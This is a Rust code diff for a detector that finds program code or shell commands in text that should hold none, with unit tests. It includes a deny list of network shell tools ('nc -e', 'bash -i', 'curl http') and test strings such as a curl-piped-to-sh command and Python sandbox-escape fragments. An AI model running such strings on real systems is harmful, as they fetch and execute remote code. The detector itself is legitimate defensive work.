@@ -66,14 +66,20 @@ const SHELLS: [&str; 7] =
     ["/bin/sh", "/bin/bash", "curl http", "wget http", "powershell", "bash -i", "nc -e"];
 
 /// The first piece of program code in a text that should hold none.
+///
+/// A vocabulary may well have `eval(` or `/bin/bash` as one of its words: code goes on behind such a word.
 pub(crate) fn code_in(text: &str) -> Option<&'static str> {
+    let goes_on = |after: &str| {
+        after.chars().any(char::is_alphanumeric) && after.contains([')', ';', ' ', '"', '\'', '|', '='])
+    };
     let found = |word: &&str| {
         text.match_indices(*word).any(|(at, _)| {
-            // `retrieval(` and `myexec(` are names of their own.
-            !text
-                .get(..at)
-                .and_then(|before| before.chars().next_back())
-                .is_some_and(|c| c.is_alphanumeric() || c == '_')
+            let before = text.get(..at).and_then(|before| before.chars().next_back());
+            let after = text.get(at.saturating_add(word.len())..).unwrap_or_default();
+            // `retrieval(`, `torch.compile(` and `myexec(` are names of their own.
+            let method = matches!(*word, "eval(" | "exec(" | "compile(");
+            let part = before.is_some_and(|c| c.is_alphanumeric() || c == '_' || (method && c == '.'));
+            !part && (goes_on(after) || (word.starts_with("__") && after.contains('.')))
         })
     };
     CALLS.iter().chain(&SHELLS).copied().find(|word| found(word))
@@ -100,5 +106,13 @@ mod tests {
         assert_eq!(code_in("__import__('os').system('id')"), Some("__import__("));
         assert_eq!(code_in("{0: 'person', 1: 'bicycle'}"), None);
         assert_eq!(code_in("information retrieval(dense)"), None);
+        for word in ["eval(", "/bin/bash", "subprocess.", "y = torch.compile(model)", "model.eval()"] {
+            assert_eq!(code_in(word), None, "{word}");
+        }
+        for code in
+            ["os.system('id')", "x; curl http://example.org/x | sh", "().__class__.__subclasses__()[3]"]
+        {
+            assert!(code_in(code).is_some(), "{code}");
+        }
     }
 }
